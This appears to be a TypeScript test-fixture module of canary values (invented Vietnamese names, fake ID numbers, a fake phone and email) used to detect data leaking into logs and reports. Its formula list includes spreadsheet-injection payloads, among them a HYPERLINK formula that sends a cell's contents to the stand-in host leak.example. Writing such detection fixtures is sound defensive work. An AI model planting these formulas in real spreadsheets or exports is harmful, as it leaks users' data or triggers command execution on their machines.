/**
 * Made-up people, numbers and formulas planted in texts and in code columns. They may stand in sources, handovers,
 * outputs and findings; in a log, an error, a tally, the ledger or the report they are a leak.
 */
export const CANARY_PEOPLE = [
  'Nguyễn Thị Hoàng Yến Oanh Vũ',
  'Trần Bạch Hạc Văn Nghiệm',
  'Lê Chim Hoàng Anh Thử',
] as const;
export const CANARY_IDS = ['079399912345', '001299954321'] as const;
export const CANARY_FORMULAS = [
  '=HYPERLINK("http://leak.example/?q="&A1,"Xem")',
  '@SUM(1+9)*cmd',
  '+84-SUM(A1:A9)',
] as const;
export const CANARIES: readonly string[] = [...CANARY_PEOPLE, ...CANARY_IDS, ...CANARY_FORMULAS];
/** Of people in packets: no output of any command may hold them. */
export const PACKET_CANARIES = {
  subject: 'V/v việc riêng của bà Sáo Nâu Ngô Đồng',
  mobile: '0999123450',
  mail: 'sao.nau.ngo.dong@nguoi-mau.example',
} as const;
